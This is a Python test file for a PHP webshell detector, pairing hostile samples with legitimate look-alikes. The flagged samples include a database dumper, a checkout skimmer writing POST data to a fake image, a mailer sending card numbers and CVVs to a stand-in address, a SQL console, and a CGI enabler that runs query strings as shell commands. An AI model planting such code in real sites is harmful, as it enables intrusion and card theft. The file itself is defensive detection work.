"""PHP database tools, data capture and shell modules (SSC-003-500..502): for each rule a
minimal tool-shaped sample that must be flagged and a legitimate page doing a similar job
that must not; the registry wiring; and a fuzz test that the byte tests and the analysis
never raise on arbitrary input.

Every sample is minimal and written for this test."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sscguard.detect.webshell import phptools
from sscguard.detect.webshell.detectors import DETECTORS, run_detectors
from sscguard.detect.webshell.flow import Budget
from sscguard.model import Severity

POSITIVE: dict[str, list[bytes]] = {
    phptools.DB_DUMP: [
        # every table, written to a file next to the page
        b"""<?php
$db = mysqli_connect('localhost', 'root', 'secret', 'shop');
$out = '';
$tables = mysqli_query($db, 'SHOW TABLES');
while ($t = mysqli_fetch_row($tables)) {
    $rows = mysqli_query($db, "SELECT * FROM `$t[0]`");
    while ($r = mysqli_fetch_assoc($rows)) { $out .= json_encode($r) . "\\n"; }
}
file_put_contents(date('Ymd') . '.txt', $out);
""",
        # the request picks the table, the columns and the row range, in chunks
        b"""<?php
ignore_user_abort(true); set_time_limit(0);
define('PASS', 'hunter2');
$pdo = new PDO('mysql:host=127.0.0.1;dbname=app', 'app', PASS);
$t = $_GET['t']; $cols = isset($_GET['c']) ? $_GET['c'] : '*';
$start = intval($_GET['from']); $end = intval($_GET['to']);
for ($i = $start; $i < $end; $i += 1000) {
    foreach ($pdo->query("SELECT $cols FROM $t LIMIT $i, 1000") as $row) {
        echo implode("\\t", $row), "\\n";
    }
}
""",
    ],
    phptools.DATA_CAPTURE: [
        b"""<?php
if (strpos($_SERVER['REQUEST_URI'], 'checkout') !== false) {
    file_put_contents('/var/www/media/cache/a1.png',
        base64_encode(serialize($_POST)) . "\\n", FILE_APPEND);
}
""",
        b"""<?php
class Payment {
    public function save($data) {
        $msg = "number: " . $data['cc_number'] . "\\ncvv: " . $data['cc_cid'] . "\\n";
        $to = 'collect' . '@' . 'example.invalid';
        mail($to, 'new', $msg);
    }
}
""",
    ],
    phptools.SHELL_MODULE: [
        b"""<?php
$GLOBALS['module']['sql']['content'] = "<textarea id='sqlText'></textarea>
<input type='text' id='sqlHost'><input type='text' id='sqlUser'>";
if (isset($p['sqlText'])) {
    $c = mysqli_connect($p['sqlHost'], $p['sqlUser'], '');
    $q = trim($p['sqlText']);
    $res = mysqli_query($c, $q);
    while ($row = mysqli_fetch_row($res)) output(implode(' | ', $row));
}
""",
        b"""<?php
$tab = "<input id='to'><input id='subj'><textarea id='body'></textarea>";
if (isset($args['to'])) {
    mail($args['to'], $args['subj'], $args['body']);
}
""",
    ],
}

POSITIVE[phptools.CGI_ENABLER] = [
    b"""<?php
@mkdir('cgi', 0755);
file_put_contents('cgi/.htaccess', "Options +ExecCGI\nAddHandler cgi-script .x\n");
$prog = "#!/bin/sh\necho 'Content-Type: text/plain'\necho\n\\$QUERY_STRING 2>&1\n";
file_put_contents('cgi/run.x', $prog);
chmod('cgi/run.x', 0755);
"""
]

POSITIVE[phptools.SITE_PACKER] = [
    b"""<?php
$zip = new ZipArchive();
$zip->open(dirname(__FILE__) . '/' . $_POST['name'] . '.zip', ZipArchive::CREATE);
$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(__DIR__));
foreach ($it as $file) {
    if ($file->isFile()) { $zip->addFile($file->getPathname()); }
}
$zip->close();
echo 'packed';
"""
]

BENIGN: dict[str, list[bytes]] = {
    phptools.DB_DUMP: [
        # an admin export: its own login, credentials from the configuration
        b"""<?php
session_start();
if (empty($_SESSION['admin'])) { header('Location: login.php'); exit; }
require 'config.php';
$db = mysqli_connect($cfg['host'], $cfg['user'], $cfg['pass'], $cfg['name']);
$tables = mysqli_query($db, 'SHOW TABLES');
while ($t = mysqli_fetch_row($tables)) {
    $rows = mysqli_query($db, "SELECT * FROM `$t[0]`");
    while ($r = mysqli_fetch_assoc($rows)) { echo json_encode($r), "\\n"; }
}
""",
        # pagination: the request picks the page, one query, no long-running loop
        b"""<?php
$db = new mysqli('localhost', 'blog', 'pw', 'blog');
$page = max(0, intval($_GET['page']));
$res = $db->query('SELECT title FROM posts LIMIT ' . ($page * 20) . ', 20');
while ($row = $res->fetch_assoc()) { echo htmlspecialchars($row['title']), "<br>"; }
""",
    ],
    phptools.DATA_CAPTURE: [
        # a contact form mails its fields to the site owner (no card fields)
        b"""<?php
$body = print_r($_POST, true);
mail('owner@example.invalid', 'contact form', $body);
file_put_contents(__DIR__ . '/logs/contact.log', json_encode($_POST) . "\\n", FILE_APPEND);
""",
        # a payment module masks the number and logs to its own log file
        b"""<?php
function log_payment($data) {
    $last4 = substr($data['cc_number'], -4);
    file_put_contents(LOG_DIR . '/payment.log', "card ending $last4\\n", FILE_APPEND);
}
""",
    ],
    phptools.SHELL_MODULE: [
        # a view that pre-fills its form from the controller's array
        b"""<?php
echo "<input name='email' value='" . htmlspecialchars($form['email']) . "'>";
echo "<input name='name' value='" . htmlspecialchars($form['name']) . "'>";
""",
        # a form handler that reads the request itself (the capability model's business)
        b"""<?php
$html = "<input name='to'><input name='subject'>";
if (isset($opts['to'])) { $opts['to'] = 'x'; }
mail('owner@example.invalid', $_POST['subject'], $_POST['to']);
""",
    ],
}


BENIGN[phptools.CGI_ENABLER] = [
    # an installer that checks the server configuration and writes its own rewrite rules
    b"""<?php
$rules = "Options -Indexes\nRewriteEngine On\nRewriteRule ^(.*)$ index.php [L]\n";
file_put_contents('.htaccess', $rules);
if (strpos(file_get_contents('/etc/apache2/apache2.conf'), 'ExecCGI') !== false) {
    echo 'CGI is enabled somewhere on this server';
}
"""
]


BENIGN[phptools.SITE_PACKER] = [
    # a gallery streams one album as a zip, behind its login
    b"""<?php
session_start();
if (empty($_SESSION['user'])) { exit; }
$album = basename($_GET['album']);
$zip = new ZipArchive();
$tmp = tempnam(sys_get_temp_dir(), 'alb');
$zip->open($tmp, ZipArchive::CREATE);
foreach (scandir(__DIR__ . '/albums/' . $album) as $f) { $zip->addFile($f); }
$zip->close();
readfile($tmp);
"""
]


def _ids(data: bytes, name: str = "page.php") -> set[str]:
    return {f.rule_id for f in run_detectors(name, data, ()) if f.severity >= Severity.MEDIUM}


def test_each_rule_fires_on_its_tool_samples() -> None:
    for rule_id, samples in POSITIVE.items():
        for sample in samples:
            hits, bounded = phptools.analyse(sample, Budget())
            assert not bounded
            assert rule_id in {h.rule_id for h in hits}, (rule_id, sample[:80])
            # through the registry the file is flagged (by this rule, or by an earlier
            # analyser's high finding, after which php-tools does not run)
            assert _ids(sample), (rule_id, sample[:80])


def test_each_rule_stays_quiet_on_legitimate_pages() -> None:
    for rule_id, samples in BENIGN.items():
        for sample in samples:
            hits, _ = phptools.analyse(sample, Budget())
            assert rule_id not in {h.rule_id for h in hits}, (rule_id, sample[:80])


def test_findings_explain_where_and_why() -> None:
    sample = POSITIVE[phptools.DB_DUMP][0]
    finding = next(
        f for f in run_detectors("dump.php", sample, ()) if f.rule_id == phptools.DB_DUMP
    )
    assert finding.severity is Severity.HIGH
    assert finding.attack[0].technique == "T1505.003"
    lines = {e.location.line for e in finding.evidence if e.location.line}
    assert {2, 4, 6} <= lines  # the login, the table list and the per-table query
    assert finding.why.endswith(".") and finding.remediation


def test_registry_holds_the_ids_once() -> None:
    entry = next(d for d in DETECTORS if d.name == "php-tools")
    assert entry.ids == phptools.ALL_IDS
    others = {i for d in DETECTORS if d.name != "php-tools" for i in d.ids}
    assert not others & set(phptools.ALL_IDS)


def test_files_without_the_shapes_are_not_parsed() -> None:
    assert not phptools._wants(b"<?php echo 'hello';")
    assert phptools.analyse(b"<?php $x = mysqli_query($db, 'SELECT 1');") == ([], "")


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.sampled_from(
            [
                b"<?php ",
                b"SHOW TABLES",
                b"mysqli_connect('h','u','p')",
                b"$p['a']",
                b"$p['b']",
                b"<input id='a'>",
                b"<textarea id='b'>",
                b"mail(",
                b"file_put_contents(",
                b"'x.jpg'",
                b"serialize($_POST)",
                b"cc_number",
                b"while(1){",
                b"}",
                b"(",
                b")",
                b";",
                b'"',
                b"'",
                b"ignore_user_abort(",
                b"set_time_limit(0)",
                b"LIMIT $_GET[x]",
                b"\x00",
            ]
        ),
        max_size=40,
    )
)
def test_never_raises_on_arbitrary_shapes(parts: list[bytes]) -> None:
    data = b"".join(parts)
    hits, _ = phptools.analyse(data, Budget())
    assert all(h.rule_id in phptools.ALL_IDS for h in hits)
    run_detectors("fuzz.php", data, ())
